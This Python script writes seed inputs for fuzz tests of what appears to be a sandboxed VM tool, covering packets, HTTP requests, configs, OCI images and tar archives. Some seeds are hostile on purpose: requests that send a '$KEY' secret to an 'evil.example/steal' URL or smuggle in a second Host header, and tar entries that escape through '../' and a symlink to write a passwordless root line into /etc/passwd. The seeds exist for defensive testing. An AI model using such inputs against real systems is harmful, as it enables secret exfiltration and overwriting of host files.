#!/usr/bin/env python3
"""Writes the seed corpora of the fuzz targets that need no C++ encoder
(net_packet, http_request, oci, config, copy_archive): small real inputs.
The frame and error seeds come from make_frame_seeds.cpp. Run by hand:
    tests/fuzz/make_seeds.py tests/fuzz/corpus build/test-images/busybox
"""
import io
import os
import struct
import sys
import tarfile

GUEST, GATEWAY, HOST_ALIAS = "192.168.127.2", "192.168.127.1", "192.168.127.254"
GUEST_MAC, GW_MAC = bytes.fromhex("5a94ef e4 0c ee".replace(" ", "")), bytes.fromhex("5256 0a00 0202".replace(" ", ""))


def ip(a):
    return bytes(int(x) for x in a.split("."))


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src, dst, proto, l4, frag=0, options=b""):
    hl = 20 + len(options)
    h = struct.pack("!BBHHHBBH4s4s", 0x40 | hl // 4, 0, hl + len(l4), 1, frag, 64, proto, 0, ip(src), ip(dst)) + options
    h = h[:10] + struct.pack("!H", checksum(h)) + h[12:]
    return GW_MAC + GUEST_MAC + b"\x08\x00" + h + l4


def pseudo(src, dst, proto, n):
    return ip(src) + ip(dst) + struct.pack("!BBH", 0, proto, n)


def udp(src, dst, sport, dport, payload):
    u = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    c = checksum(pseudo(src, dst, 17, len(u)) + u) or 0xFFFF
    return ipv4(src, dst, 17, u[:6] + struct.pack("!H", c) + u[8:])


def tcp(src, dst, sport, dport, flags, payload=b"", seq=1000):
    t = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 0x50, flags, 65535, 0, 0) + payload
    c = checksum(pseudo(src, dst, 6, len(t)) + t)
    return ipv4(src, dst, 6, t[:16] + struct.pack("!H", c) + t[18:])


def qname(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"


def dns_query(name, qtype=1, qid=0x1234):
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname(name) + struct.pack("!HH", qtype, 1)


def dns_answer(name, addrs):
    q = struct.pack("!HHHHHH", 0x1234, 0x8180, 1, len(addrs), 0, 0) + qname(name) + struct.pack("!HH", 1, 1)
    for a in addrs:
        q += struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + ip(a)
    return q


def put(d, name, data):
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)


def net_packet(d):
    put(d, "dns_a_example", udp(GUEST, GATEWAY, 40001, 53, dns_query("example.com")))
    put(d, "dns_aaaa_blocked", udp(GUEST, GATEWAY, 40002, 53, dns_query("blocked.invalid", 28)))
    put(d, "dns_host_alias", udp(GUEST, GATEWAY, 40003, 53, dns_query("host.boxlite.internal")))
    put(d, "dns_wildcard", udp(GUEST, GATEWAY, 40004, 53, dns_query("api.allowed.test")))
    put(d, "dns_other_resolver", udp(GUEST, "8.8.8.8", 40005, 53, dns_query("example.com")))
    put(d, "syn_https", tcp(GUEST, "93.184.216.34", 50000, 443, 0x02))
    put(d, "syn_refused_segment", tcp(GUEST, "192.168.127.7", 50001, 80, 0x02))
    put(d, "syn_host_alias", tcp(GUEST, HOST_ALIAS, 50002, 8080, 0x02))
    put(d, "ack_data", tcp(GUEST, "93.184.216.34", 50000, 443, 0x18, b"\x16\x03\x01\x00\x05hello"))
    put(d, "spoofed", tcp("10.0.0.9", "1.1.1.1", 1, 80, 0x02))
    put(d, "loopback", udp(GUEST, "127.0.0.1", 1, 9, b"x"))
    put(d, "fragment", ipv4(GUEST, "1.1.1.1", 17, b"tail of a datagram", frag=0x0010))
    put(d, "ip_options", ipv4(GUEST, "1.1.1.1", 1, b"\x08\x00\xf7\xff\x00\x00\x00\x00", options=b"\x01\x01\x01\x00"))
    arp = GW_MAC + GUEST_MAC + b"\x08\x06" + bytes.fromhex("0001080006040001") + GUEST_MAC + ip(GUEST) + b"\0" * 6 + ip(GATEWAY)
    put(d, "arp", arp)
    put(d, "ipv6", GW_MAC + GUEST_MAC + b"\x86\xdd" + b"\x60" + b"\0" * 39)
    put(d, "dns_upstream_answer", dns_answer("example.com", ["93.184.216.34", "10.1.2.3"]))
    # QEMU's stream link: frames after their lengths, the last one cut short.
    frames = [udp(GUEST, GATEWAY, 40001, 53, dns_query("example.com")), tcp(GUEST, "93.184.216.34", 50000, 443, 0x02),
              arp]
    stream = b"".join(struct.pack("!I", len(f)) + f for f in frames)
    put(d, "stream_link", stream[:-5])


def http_request(d):
    put(d, "get", "GET /v1/models?key=$KEY HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer $KEY\r\n"
        "User-Agent: curl/7.88\r\nAccept: */*\r\n\r\n")
    put(d, "post_length", "POST /v1/chat HTTP/1.1\r\nHost: api.example.com:443\r\nContent-Type: application/json\r\n"
        "Content-Length: 27\r\nConnection: keep-alive\r\n\r\n{\"key\": \"$KEY\", \"n\": 1234}")
    put(d, "post_chunked", "POST /upload HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
        "5;ext=1\r\nhello\r\n8\r\n $KEY !\r\n0\r\nTrailer: x\r\n\r\n")
    put(d, "absolute_form", "GET https://evil.example/steal?k=$KEY HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
    put(d, "two_hosts", "GET / HTTP/1.1\r\nHost: api.example.com\r\nhost: evil.example\r\nX-Key: $KEY\r\n\r\n")
    put(d, "other_host", "PUT /x HTTP/1.0\r\nHost: [::1]:8443\r\nContent-Length: 4\r\n\r\n$ANY")


def config(d):
    put(d, "home", '{"engine": "jail", "accel": "tcg", "image_registries": [{"host": "localhost:5000", '
        '"transport": "http", "search": true}, {"host": "ghcr.io", "username": "u", "password": "p"}]}')
    put(d, "registry_file", '{"image_registries": [{"host": "registry.example:443", "skip_verify": true, '
        '"bearer_token": "t0k3n", "search": false}], "engine": "vm"}')
    put(d, "bad_key", '{"image_registries": [{"host": "x", "port": 5000}]}')
    put(d, "url_host", '{"image_registries": [{"host": "https://x.example/v2"}]}')
    put(d, "not_object", '[1, 2, "three"]')
    put(d, "flag", "localhost:5000,transport=http,skip_verify,search=false")
    put(d, "net", '{"enabled": true, "allow_net": ["example.com", "*.pypi.org"], "ports": [{"host_ip": "127.0.0.1", '
        '"host_port": 8080, "guest_port": 80, "udp": false}], "dns_upstream": "", "binary": "/usr/bin/boxlite-net", '
        '"secrets": [{"name": "k", "placeholder": "$KEY", "value": "v", "hosts": ["api.example.com"]}]}')


def oci(d, layout):
    sep = b"\n=====\n"
    blobs = os.path.join(layout, "blobs", "sha256")
    index = open(os.path.join(layout, "index.json"), "rb").read()
    marker = open(os.path.join(layout, "oci-layout"), "rb").read()
    import json
    idx = json.loads(index)
    man_digest = idx["manifests"][0]["digest"].split(":")[1]
    man = json.loads(open(os.path.join(blobs, man_digest), "rb").read())
    cfg = open(os.path.join(blobs, man["config"]["digest"].split(":")[1]), "rb").read()
    small = [l for l in man["layers"] if l["size"] < 4096]
    # The busybox test image with its digests and sizes as placeholders ($N, #N: part N's).
    idx["manifests"][0]["digest"], idx["manifests"][0]["size"] = "$2", "#2"
    man["config"]["digest"], man["config"]["size"] = "$3", "#3"
    man["layers"] = [dict(l, digest="$%d" % (4 + i), size="#%d" % (4 + i)) for i, l in enumerate(small)]
    def unquote(b):  # sizes are numbers: "#N" -> #N
        import re
        return re.sub(rb'"(#\d)"', rb"\1", b)
    layers = [open(os.path.join(blobs, l["digest"].split(":")[1]), "rb").read() for l in small]
    parts = [marker, unquote(json.dumps(idx).encode()), unquote(json.dumps(man).encode()), cfg] + layers
    put(d, "busybox", sep.join(parts))
    # A nested index (a multi-platform image) over the same manifest.
    nested = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": [
        {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "$3", "size": "#3",
         "platform": {"os": "linux", "architecture": "arm64"}},
        {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "$3", "size": "#3",
         "platform": {"os": "linux", "architecture": "amd64"}}]}
    top = {"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.index.v1+json",
           "digest": "$2", "size": "#2", "annotations": {"org.opencontainers.image.ref.name": "v1"}}]}
    man2 = dict(man, config=dict(man["config"], digest="$4", size="#4"),
                layers=[dict(l, digest="$%d" % (5 + i), size="#%d" % (5 + i)) for i, l in enumerate(small)])
    parts = [marker, unquote(json.dumps(top).encode()), unquote(json.dumps(nested).encode()),
             unquote(json.dumps(man2).encode()), cfg] + layers
    put(d, "nested_index", sep.join(parts))
    docker = {"schemaVersion": 2, "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
              "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "digest": "$3", "size": "#3"},
              "layers": [{"mediaType": "application/vnd.docker.image.rootfs.diff.tar.gzip", "digest": "$4", "size": "#4"}]}
    top = {"schemaVersion": 2, "manifests": [{"digest": "$2", "size": "#2"}]}
    parts = [marker, unquote(json.dumps(top).encode()), unquote(json.dumps(docker).encode()),
             b'{"os": "linux", "architecture": "amd64", "config": {"Entrypoint": ["/bin/sh"], "User": "1000"}}', layers[0]]
    put(d, "docker_schema2", sep.join(parts))


def tar(entries):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, kind, extra in entries:
            ti = tarfile.TarInfo(name)
            ti.mtime = 1700000000
            data = None
            if kind == "dir":
                ti.type, ti.mode = tarfile.DIRTYPE, 0o755
            elif kind == "file":
                data = extra.encode()
                ti.size, ti.mode = len(data), 0o644
            elif kind == "symlink":
                ti.type, ti.linkname = tarfile.SYMTYPE, extra
            elif kind == "hardlink":
                ti.type, ti.linkname = tarfile.LNKTYPE, extra
            elif kind == "fifo":
                ti.type = tarfile.FIFOTYPE
            elif kind == "setuid":
                data = extra.encode()
                ti.size, ti.mode = len(data), 0o4755
            t.addfile(ti, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def copy_archive(d):
    put(d, "file", tar([("a", "file", "hello\n")]))
    put(d, "dir", tar([("a", "dir", None), ("a/b", "file", "x"), ("a/c", "dir", None), ("a/c/l", "symlink", "../b"),
                       ("a/c/h", "hardlink", "a/b"), ("a/s", "setuid", "#!/bin/sh\n")]))
    put(d, "escape", tar([("a", "dir", None), ("a/../../x", "file", "out"), ("a/l", "symlink", "/etc"),
                          ("a/l/passwd", "file", "root::0:0::/:/bin/sh")]))
    put(d, "two_tops", tar([("a", "file", "1"), ("b", "file", "2")]))
    put(d, "fifo", tar([("a", "dir", None), ("a/p", "fifo", None)]))
    put(d, "symlink_top", tar([("a", "symlink", "/")]))


def unpack(d):
    put(d, "whiteouts", tar([("etc", "dir", None), ("etc/.wh.passwd", "file", ""), ("usr", "dir", None),
                             ("usr/.wh..wh..opq", "file", ""), ("usr/bin", "dir", None), ("usr/bin/x", "setuid", "x"),
                             ("l", "symlink", "../../outside"), ("l/x", "file", "escape")]))


def main():
    out, layout = sys.argv[1], sys.argv[2]
    net_packet(os.path.join(out, "net_packet"))
    http_request(os.path.join(out, "http_request"))
    config(os.path.join(out, "config"))
    oci(os.path.join(out, "oci"), layout)
    copy_archive(os.path.join(out, "copy_archive"))
    unpack(os.path.join(out, "unpack"))


main()
